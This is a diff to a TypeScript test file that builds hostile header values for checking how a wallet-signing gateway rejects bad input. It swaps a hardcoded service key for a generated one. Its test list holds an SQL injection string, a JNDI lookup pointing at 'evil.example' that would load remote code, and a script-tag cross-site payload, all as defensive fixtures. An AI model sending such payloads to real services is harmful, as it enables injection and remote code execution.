@@ -1,3 +1,4 @@
+import { createKey } from '#gateway';
 import { encodeEnvelope, message, presign, type TestWallet } from '../../support/wallets.ts';
 
 /** What is wrong with a header's value, and the value, which a header can carry. */
@@ -137,7 +138,7 @@ export async function hostileEnvelopes(wallet: TestWallet): Promise<readonly Val
     ['undefined', 'undefined'],
     ['[object Object]', '[object Object]'],
     ['siwx', 'siwx'],
-    ['a key of ours', `svc-sk-v2-${'4Nd1mYQfVhFb8Wvq2m2mCHo1v1oZkGCFqfQ5Bnk2x6pX'}`],
+    ['a key of ours', createKey('live').text],
     ['a statement of SQL', "' OR 1=1 --"],
     ['a template', '${jndi:ldap://evil.example/a}'],
     ['markup', '<script>alert(1)</script>'],
